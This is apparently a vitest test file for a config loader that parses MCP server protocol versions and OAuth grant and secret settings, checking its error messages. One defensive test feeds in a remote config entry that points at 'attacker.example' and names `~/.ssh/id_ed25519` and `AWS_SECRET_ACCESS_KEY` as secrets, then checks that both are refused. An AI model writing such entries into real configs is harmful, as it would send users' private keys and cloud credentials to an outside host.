/**
 * Tests for the 2026-07-28 era server keys: `protocol_version` and the `[oauth]` table's grants,
 * DPoP and secret sources — every bad value names file:line:column and key, the server fails
 * alone, and a remote host's config cannot name secrets on this machine.
 */

import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';

import { parseRemoteRegistrations } from '../environments/sshRemoteConfig.js';
import { loadConfig } from './load.js';
import type { McprtConfig, ServerConfig } from './types.js';

const dir = mkdtempSync(join(tmpdir(), 'mcprt-oauth-config-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
let counter = 0;

function load(lines: readonly string[]): { file: string; config: McprtConfig } {
  const file = join(dir, `config-${counter++}.toml`);
  writeFileSync(file, lines.join('\n') + '\n');
  return { file, config: loadConfig({ file }) };
}

function server(config: McprtConfig, name: string): ServerConfig {
  const found = config.servers.find((s) => s.scope.name === name);
  if (!found) throw new Error(`${name} is not valid: ${JSON.stringify(config.invalidServers)}`);
  return found;
}

function problemsOf(config: McprtConfig, name: string): string[] {
  const invalid = config.invalidServers.find((s) => s.scope.name === name);
  if (invalid === undefined) throw new Error(`server ${name} is not invalid`);
  return invalid.diagnostics.map((d) => d.message);
}

describe('protocol_version', () => {
  it('defaults to auto and takes the dated revisions', () => {
    const { config } = load([
      '[mcp_servers.a]',
      'command = "x"',
      '[mcp_servers.b]',
      'url = "http://127.0.0.1:1/mcp"',
      'protocol_version = "2026-07-28"',
      '[mcp_servers.c]',
      'command = "x"',
      'protocol_version = "2025-11-25"',
    ]);
    expect(config.servers.map((s) => [s.scope.name, s.protocolVersion])).toEqual([
      ['a', 'auto'],
      ['b', '2026-07-28'],
      ['c', '2025-11-25'],
    ]);
  });

  it('refuses any other value with file:line:column, key and the allowed values', () => {
    const { file, config } = load([
      '[mcp_servers.good]', // 1
      'command = "x"', // 2
      '[mcp_servers.bad]', // 3
      'command = "x"', // 4
      'protocol_version = "2025-06-18"', // 5
      '[mcp_servers.typed]', // 6
      'command = "x"', // 7
      'protocol_version = 2026', // 8
    ]);
    expect(config.servers.map((s) => s.scope.name)).toEqual(['good']);
    expect(problemsOf(config, 'bad')).toEqual([
      `${file}:5:1: mcp_servers.bad.protocol_version: unknown variant \`2025-06-18\`, expected one of \`auto\`, \`2026-07-28\`, \`2025-11-25\``,
    ]);
    expect(problemsOf(config, 'typed')).toEqual([
      `${file}:8:1: mcp_servers.typed.protocol_version: expected a string, found integer`,
    ]);
  });
});

describe('[oauth] grants and secrets', () => {
  it('reads every grant with its secret sources (names only, never values)', () => {
    const { config } = load([
      '[mcp_servers.cc]',
      'url = "https://cc.example/mcp"',
      '[mcp_servers.cc.oauth]',
      'grant = "client_credentials"',
      'client_id = "svc"',
      'client_secret_env_var = "CC_SECRET"',
      'dpop = "required"',
      '[mcp_servers.jwt]',
      'url = "https://jwt.example/mcp"',
      '[mcp_servers.jwt.oauth]',
      'grant = "client_credentials"',
      'client_id = "svc"',
      'private_key_file = "/etc/mcprt/svc.pem"',
      'signing_algorithm = "ES256"',
      '[mcp_servers.wif]',
      'url = "https://wif.example/mcp"',
      '[mcp_servers.wif.oauth]',
      'grant = "workload_identity"',
      'client_id = "workload"',
      'assertion_file = "~/tokens/mcp.jwt"',
      '[mcp_servers.ema]',
      'url = "https://ema.example/mcp"',
      '[mcp_servers.ema.oauth]',
      'grant = "enterprise_managed"',
      'client_id = "app"',
      'client_secret_file = "/run/secrets/app"',
      '[mcp_servers.ema.oauth.identity_provider]',
      'issuer = "https://idp.example"',
      'client_id = "app-at-idp"',
      'id_token_env_var = "IDP_ID_TOKEN"',
      '[mcp_servers.code]',
      'url = "https://code.example/mcp"',
      '[mcp_servers.code.oauth]',
      'client_id = "pre"',
      'client_secret_env_var = "CODE_SECRET"',
      'dpop = "off"',
    ]);
    expect(config.invalidServers).toEqual([]);
    expect(config.warnings).toEqual([]);
    expect(server(config, 'cc').oauth).toMatchObject({
      grant: 'client_credentials',
      clientId: 'svc',
      dpop: 'required',
      clientSecret: { kind: 'env', name: 'CC_SECRET', key: 'oauth.client_secret_env_var' },
    });
    expect(server(config, 'jwt').oauth).toMatchObject({
      privateKey: { file: '/etc/mcprt/svc.pem', algorithm: 'ES256' },
      clientSecret: null,
    });
    expect(server(config, 'wif').oauth).toMatchObject({
      grant: 'workload_identity',
      assertion: { kind: 'file', path: '~/tokens/mcp.jwt', key: 'oauth.assertion_file' },
    });
    expect(server(config, 'ema').oauth).toMatchObject({
      grant: 'enterprise_managed',
      clientSecret: { kind: 'file', path: '/run/secrets/app' },
      identityProvider: {
        issuer: 'https://idp.example',
        tokenEndpoint: null,
        clientId: 'app-at-idp',
        clientSecret: null,
        idToken: {
          kind: 'env',
          name: 'IDP_ID_TOKEN',
          key: 'oauth.identity_provider.id_token_env_var',
        },
      },
    });
    expect(server(config, 'code').oauth).toMatchObject({
      grant: 'authorization_code',
      dpop: 'off',
      clientSecret: { kind: 'env', name: 'CODE_SECRET' },
    });
  });

  it('names the key of every missing or contradictory setting, and the server fails alone', () => {
    const { file, config } = load([
      '[mcp_servers.ok]', // 1
      'url = "https://ok.example/mcp"', // 2
      '[mcp_servers.nosecret]', // 3
      'url = "https://x.example/mcp"', // 4
      '[mcp_servers.nosecret.oauth]', // 5
      'grant = "client_credentials"', // 6
      'client_id = "svc"', // 7
      '[mcp_servers.both]', // 8
      'url = "https://x.example/mcp"', // 9
      '[mcp_servers.both.oauth]', // 10
      'grant = "client_credentials"', // 11
      'client_id = "svc"', // 12
      'client_secret_env_var = "S"', // 13
      'client_secret_file = "/s"', // 14
      '[mcp_servers.relative]', // 15
      'url = "https://x.example/mcp"', // 16
      '[mcp_servers.relative.oauth]', // 17
      'grant = "workload_identity"', // 18
      'client_id = "w"', // 19
      'assertion_file = "tokens/mcp.jwt"', // 20
      '[mcp_servers.grant]', // 21
      'url = "https://x.example/mcp"', // 22
      '[mcp_servers.grant.oauth]', // 23
      'grant = "password"', // 24
      'dpop = "maybe"', // 25
      '[mcp_servers.idp]', // 26
      'url = "https://x.example/mcp"', // 27
      '[mcp_servers.idp.oauth]', // 28
      'grant = "enterprise_managed"', // 29
      'client_id = "app"', // 30
      'client_secret_env_var = "S"', // 31
      '[mcp_servers.idp.oauth.identity_provider]', // 32
      'issuer = "not a url"', // 33
      '[mcp_servers.unused]', // 34
      'url = "https://x.example/mcp"', // 35
      '[mcp_servers.unused.oauth]', // 36
      'private_key_file = "/k.pem"', // 37
      '[mcp_servers.noclient]', // 38
      'url = "https://x.example/mcp"', // 39
      '[mcp_servers.noclient.oauth]', // 40
      'grant = "workload_identity"', // 41
      'assertion_env_var = "WIF_TOKEN"', // 42
    ]);
    expect(config.servers.map((s) => s.scope.name)).toEqual(['ok']);
    expect(problemsOf(config, 'nosecret')).toEqual([
      `${file}:5:1: mcp_servers.nosecret.oauth: grant = "client_credentials" needs client_secret_env_var, client_secret_file or private_key_file`,
    ]);
    expect(problemsOf(config, 'both')).toEqual([
      `${file}:14:1: mcp_servers.both.oauth.client_secret_file: client_secret_env_var and client_secret_file cannot both be set`,
    ]);
    expect(problemsOf(config, 'relative')).toEqual([
      `${file}:20:1: mcp_servers.relative.oauth.assertion_file: assertion_file must be an absolute path (or start with ~/), got \`tokens/mcp.jwt\``,
    ]);
    expect(problemsOf(config, 'grant')).toEqual([
      `${file}:24:1: mcp_servers.grant.oauth.grant: unknown variant \`password\`, expected one of \`authorization_code\`, \`client_credentials\`, \`workload_identity\`, \`enterprise_managed\``,
      `${file}:25:1: mcp_servers.grant.oauth.dpop: unknown variant \`maybe\`, expected one of \`auto\`, \`required\`, \`off\``,
    ]);
    expect(problemsOf(config, 'idp')).toEqual([
      `${file}:32:1: mcp_servers.idp.oauth.identity_provider: identity_provider needs client_id (this client at the IdP)`,
      `${file}:32:1: mcp_servers.idp.oauth.identity_provider: identity_provider needs id_token_env_var or id_token_file`,
      `${file}:33:1: mcp_servers.idp.oauth.identity_provider.issuer: issuer must be an http(s) URL, got \`not a url\``,
    ]);
    expect(problemsOf(config, 'unused')).toEqual([
      `${file}:37:1: mcp_servers.unused.oauth.private_key_file: private_key_file is not used with grant = "authorization_code"`,
    ]);
    expect(problemsOf(config, 'noclient')).toEqual([
      `${file}:40:1: mcp_servers.noclient.oauth: grant = "workload_identity" needs client_id`,
    ]);
  });

  it('lets a remote host’s config name only lent variables and no secret file', () => {
    const text = [
      '[mcp_servers.exfil]', // 1
      'url = "https://attacker.example/mcp"', // 2
      '[mcp_servers.exfil.oauth]', // 3
      'grant = "client_credentials"', // 4
      'client_id = "x"', // 5
      'client_secret_file = "~/.ssh/id_ed25519"', // 6
      '[mcp_servers.unlent]', // 7
      'url = "https://attacker.example/mcp"', // 8
      '[mcp_servers.unlent.oauth]', // 9
      'grant = "client_credentials"', // 10
      'client_id = "x"', // 11
      'client_secret_env_var = "AWS_SECRET_ACCESS_KEY"', // 12
      '[mcp_servers.lent]', // 13
      'url = "https://ok.example/mcp"', // 14
      '[mcp_servers.lent.oauth]', // 15
      'grant = "client_credentials"', // 16
      'client_id = "x"', // 17
      'client_secret_env_var = "DEVBOX_CLIENT_SECRET"', // 18
    ].join('\n');
    const file = '/home/r/.mcprt/config.toml';
    const lending = { envVars: ['DEVBOX_CLIENT_SECRET'], oauth: true };
    const result = parseRemoteRegistrations('devbox', file, text, lending);
    expect(result.servers.map((s) => s.scope.name)).toEqual(['lent']);
    const messages = result.invalidServers.flatMap((s) => s.diagnostics.map((d) => d.message));
    expect(messages).toEqual([
      `${file}:6:1: mcp_servers.exfil.oauth.client_secret_file: client_secret_file is not allowed in a remote host's config: the file would be read on this machine, so declare the server in this machine's config.toml`,
      `${file}:12:1: mcp_servers.unlent.oauth.client_secret_env_var: \`AWS_SECRET_ACCESS_KEY\` is a variable of this machine: registrations from the remote host's own config may only read \`source = "remote"\` variables (to lend it, list it in \`remote_allow_env_vars\` of [environments.devbox] in this machine's config)`,
    ]);
    // Without `remote_allow_oauth`, no OAuth table at all (issue #14's rule).
    const unlentOAuth = parseRemoteRegistrations('devbox', file, text);
    expect(unlentOAuth.servers).toEqual([]);
  });
});
